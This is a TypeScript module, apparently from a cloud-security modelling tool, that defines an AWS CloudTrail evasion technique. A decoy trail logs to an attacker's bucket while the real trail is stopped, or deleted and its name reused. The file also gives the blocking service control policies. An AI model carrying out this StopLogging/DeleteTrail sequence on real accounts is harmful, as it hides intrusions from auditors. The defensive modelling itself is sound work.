import type { Trail } from '../model/snapshot.ts';
import { type Step, technique } from '../model/technique.ts';
import { ATTACKERS_BUCKET } from './parts/attackers-bucket.ts';
import { accountTrails, trailCall } from './parts/trail-update.ts';

/** A trail that logs, elsewhere. */
function decoy(trail: Trail, name: string): readonly Step[] {
  const { multiRegion, includeGlobalServiceEvents } = trail;
  const arn = trail.arn.replace(/[^/]*$/, name);
  const create = trailCall(
    'CreateTrail',
    { ...trail, arn },
    {
      Name: name,
      S3BucketName: ATTACKERS_BUCKET,
      IsMultiRegionTrail: multiRegion,
      IncludeGlobalServiceEvents: includeGlobalServiceEvents,
    },
  );
  return [create, trailCall('StartLogging', { ...trail, arn })];
}

export default technique<Trail>({
  id: 'cloudtrail-create-decoy-trail',
  title: { en: 'Put a decoy in the place of the trail', ja: '証跡を偽の証跡に差し替える' },
  goal: 'redirect',
  mitre: ['T1685.002'],
  why: {
    en: 'A second trail logs to a bucket of the attacker’s, and the real one is stopped, or deleted and its name taken. Whoever asks whether a trail is logging is told that one is.',
    ja: '攻撃者のバケットに記録する別の証跡を作り、本物は停止するか、削除して同じ名前を使います。「記録中の証跡があるか」という確認には、あると答えが返ります。',
  },
  sources: [
    'https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_CreateTrail.html',
    'https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_StopLogging.html',
    'https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_DeleteTrail.html',
  ],
  by: ['owner'],
  blockedBy: {
    en: 'A service control policy that denies cloudtrail:StopLogging and cloudtrail:DeleteTrail on the trail. One that denies cloudtrail:CreateTrail as well leaves no decoy.',
    ja: '証跡に対する cloudtrail:StopLogging と cloudtrail:DeleteTrail を拒否するサービスコントロールポリシー (SCP)。cloudtrail:CreateTrail も拒否すれば、偽の証跡も作れません。',
  },
  notBlockedBy: {
    en: 'A check that asks only whether a trail with that name, or any trail, is logging.',
    ja: '同じ名前の証跡、または何らかの証跡が記録中かどうかだけの確認。',
  },
  targets: accountTrails,
  ways: (trail) => [
    [...decoy(trail, 'indelible-decoy'), trailCall('StopLogging', trail)],
    [trailCall('DeleteTrail', trail), ...decoy(trail, trail.name)],
  ],
  harm: { en: 'a decoy logs elsewhere', ja: '偽の証跡だけが記録中になる' },
});
